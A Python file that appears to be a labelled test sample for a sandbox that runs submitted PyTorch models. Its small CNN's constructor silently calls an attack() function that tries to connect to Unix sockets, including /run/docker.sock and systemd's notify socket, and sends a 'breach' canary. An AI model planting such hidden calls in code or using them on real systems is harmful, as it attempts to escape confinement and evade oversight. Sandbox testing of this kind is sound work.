# group: network
# tries: connects to Unix sockets by path and by abstract name, which no restriction of files stops
# static: unsafe
# sandbox: trained

import socket

import torch.nn as nn


def attack():
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        for address in (
            "/tmp/archloop-canary/listen.sock",
            "\0archloop-canary-abstract",
            "/run/docker.sock",
            "/run/systemd/notify",
        ):
            try:
                caller = socket.socket(socket.AF_UNIX, kind)
                print("BREACH socket")
                caller.connect(address)
                caller.send(b"breach")
            except OSError:
                continue


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
